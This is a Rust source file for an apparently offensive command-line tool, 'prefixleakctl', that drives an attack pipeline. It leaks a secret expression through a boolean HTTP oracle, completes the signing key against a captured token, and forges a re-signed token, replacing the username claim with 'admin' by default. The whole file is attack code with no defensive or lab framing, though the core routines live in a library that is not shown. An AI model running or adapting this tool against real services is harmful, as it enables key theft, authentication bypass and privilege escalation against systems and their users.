// Copyright (c) 2026 Joseph Verdicchio and EvidenceOS Contributors
// SPDX-License-Identifier: Apache-2.0

#![forbid(unsafe_code)]
#![deny(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![cfg_attr(test, allow(clippy::unwrap_used, clippy::expect_used))]

use std::path::PathBuf;

use anyhow::{bail, Context, Result};
use clap::{Args, Parser, Subcommand};
use prefixleak_core::config::PipelineConfig;
use prefixleak_core::{
    pipeline, ClaimLocator, ClaimRewrite, HttpTransport, KeyCompletion, OracleClient,
    PrefixExtractor, RecoveredKey, SignedToken, TokenForger,
};
use serde_json::json;
use tracing_subscriber::EnvFilter;

#[derive(Debug, Parser)]
#[command(name = "prefixleakctl")]
#[command(about = "Leak a secret through a boolean oracle, complete the key, forge a token")]
struct Cli {
    /// JSON pipeline config; PREFIXLEAK_* variables and flags override it.
    #[arg(long, global = true)]
    config: Option<PathBuf>,

    #[arg(long, global = true, default_value = "info")]
    log: String,

    #[command(subcommand)]
    cmd: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Leak the expression's value symbol by symbol.
    Extract {
        #[command(flatten)]
        oracle: OracleArgs,
    },
    /// Complete a leaked key against a captured token.
    Complete {
        #[arg(long)]
        leaked_hex: String,
        #[arg(long)]
        token: String,
        #[arg(long)]
        key_len: Option<usize>,
    },
    /// Re-sign a captured token with one claim replaced.
    Forge {
        #[arg(long)]
        key_hex: String,
        #[arg(long)]
        token: String,
        #[command(flatten)]
        claim: ClaimArgs,
    },
    /// Check a token's signature under a key.
    Verify {
        #[arg(long)]
        key_hex: String,
        #[arg(long)]
        token: String,
    },
    /// Extract, complete and forge in one go.
    Run {
        #[command(flatten)]
        oracle: OracleArgs,
        #[arg(long)]
        token: String,
        #[arg(long)]
        key_len: Option<usize>,
        #[command(flatten)]
        claim: ClaimArgs,
    },
}

#[derive(Debug, Args)]
struct OracleArgs {
    #[arg(long)]
    plant_url: Option<String>,
    #[arg(long)]
    observe_url: Option<String>,
    #[arg(long)]
    expression: Option<String>,
    /// base64, hex or raw:<symbols>
    #[arg(long)]
    alphabet: Option<String>,
    #[arg(long)]
    max_length: Option<usize>,
    #[arg(long)]
    marker: Option<String>,
    #[arg(long)]
    timeout_ms: Option<u64>,
}

#[derive(Debug, Args)]
struct ClaimArgs {
    /// Field whose claim is replaced.
    #[arg(long, default_value = "username", conflicts_with = "current")]
    field: String,
    /// Replace this literal claim instead of looking up a field.
    #[arg(long)]
    current: Option<String>,
    #[arg(long, default_value = "admin")]
    target: String,
}

impl ClaimArgs {
    fn rewrite(&self) -> ClaimRewrite {
        let locator = match &self.current {
            Some(current) => ClaimLocator::Literal(current.clone()),
            None => ClaimLocator::Field(self.field.clone()),
        };
        ClaimRewrite {
            locator,
            target: self.target.clone(),
        }
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();

    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::new(&cli.log))
        .with_writer(std::io::stderr)
        .init();

    let mut config = match &cli.config {
        Some(path) => {
            let mut config = PipelineConfig::load(path).context("loading config")?;
            config.apply_env(|name| std::env::var(name).ok());
            config
        }
        None => PipelineConfig::from_env(),
    };

    let out = match cli.cmd {
        Command::Extract { oracle } => {
            oracle.apply(&mut config);
            run_extract(&config).await?
        }
        Command::Complete {
            leaked_hex,
            token,
            key_len,
        } => {
            if let Some(key_len) = key_len {
                config.keyfill.key_len = key_len;
            }
            run_complete(&config, &leaked_hex, &token)?
        }
        Command::Forge {
            key_hex,
            token,
            claim,
        } => run_forge(&key_hex, &token, &claim)?,
        Command::Verify { key_hex, token } => run_verify(&key_hex, &token)?,
        Command::Run {
            oracle,
            token,
            key_len,
            claim,
        } => {
            oracle.apply(&mut config);
            if let Some(key_len) = key_len {
                config.keyfill.key_len = key_len;
            }
            run_pipeline(&config, &token, &claim).await?
        }
    };
    println!("{out}");
    Ok(())
}

impl OracleArgs {
    fn apply(self, config: &mut PipelineConfig) {
        if let Some(v) = self.plant_url {
            config.endpoints.plant_url = v;
        }
        if let Some(v) = self.observe_url {
            config.endpoints.observe_url = v;
        }
        if let Some(v) = self.timeout_ms {
            config.endpoints.timeout_ms = v;
        }
        if let Some(v) = self.expression {
            config.extraction.expression = v;
        }
        if let Some(v) = self.alphabet {
            config.extraction.alphabet = v;
        }
        if let Some(v) = self.max_length {
            config.extraction.max_length = v;
        }
        if let Some(v) = self.marker {
            config.extraction.marker = v;
        }
    }
}

fn oracle_client(config: &PipelineConfig) -> Result<OracleClient<HttpTransport>> {
    let transport = HttpTransport::new(&config.endpoints).context("building oracle transport")?;
    let template = config.extraction.template().context("predicate template")?;
    Ok(OracleClient::new(
        transport,
        template,
        config.extraction.marker.clone(),
    ))
}

async fn run_extract(config: &PipelineConfig) -> Result<serde_json::Value> {
    let extractor = PrefixExtractor::from_config(&config.extraction)?;
    let mut oracle = oracle_client(config)?;
    tracing::info!(
        expression = %config.extraction.expression,
        max_probes = extractor.max_probes(),
        "starting extraction"
    );
    let extraction = extractor
        .extract(&mut oracle, &config.extraction.expression)
        .await
        .context("extraction stage failed")?;
    let leaked = extraction.decode().context("extraction stage failed")?;
    Ok(json!({
        "symbols": extraction.leaked.as_str(),
        "leaked_hex": hex::encode(&leaked),
        "probes": extraction.probes,
        "termination": format!("{:?}", extraction.termination),
    }))
}

fn run_complete(config: &PipelineConfig, leaked_hex: &str, token: &str) -> Result<serde_json::Value> {
    let leaked = hex::decode(leaked_hex).context("--leaked-hex is not hex")?;
    let reference = SignedToken::parse(token).context("parsing --token")?;
    let key = KeyCompletion::from_config(&config.keyfill)?
        .complete(&leaked, &reference)
        .context("key completion stage failed")?;
    Ok(json!({
        "key_hex": key.to_hex(),
        "candidates_tried": key.candidates_tried(),
    }))
}

fn run_forge(key_hex: &str, token: &str, claim: &ClaimArgs) -> Result<serde_json::Value> {
    let template = SignedToken::parse(token).context("parsing --token")?;
    let key = verified_key(key_hex, &template)?;
    let forged = TokenForger::new(&key)
        .forge(&template, &claim.rewrite())
        .context("forgery stage failed")?;
    Ok(json!({ "token": forged.encode() }))
}

fn run_verify(key_hex: &str, token: &str) -> Result<serde_json::Value> {
    let key = hex::decode(key_hex).context("--key-hex is not hex")?;
    let token = SignedToken::parse(token).context("parsing --token")?;
    let valid = token.verify(&key);
    if !valid {
        bail!("signature does not verify under the given key");
    }
    Ok(json!({ "valid": valid }))
}

fn verified_key(key_hex: &str, reference: &SignedToken) -> Result<RecoveredKey> {
    let bytes = hex::decode(key_hex).context("--key-hex is not hex")?;
    RecoveredKey::verified(bytes, reference).context("forgery stage failed")
}

async fn run_pipeline(config: &PipelineConfig, token: &str, claim: &ClaimArgs) -> Result<serde_json::Value> {
    let reference = SignedToken::parse(token).context("parsing --token")?;
    let extractor = PrefixExtractor::from_config(&config.extraction)?;
    let completion = KeyCompletion::from_config(&config.keyfill)?;
    let mut oracle = oracle_client(config)?;

    let report = pipeline::run(
        &mut oracle,
        &extractor,
        &config.extraction.expression,
        &completion,
        &reference,
        &claim.rewrite(),
    )
    .await?;

    Ok(json!({
        "symbols": report.extraction.leaked.as_str(),
        "probes": report.extraction.probes,
        "key_hex": report.key.to_hex(),
        "candidates_tried": report.key.candidates_tried(),
        "token": report.forged.encode(),
    }))
}
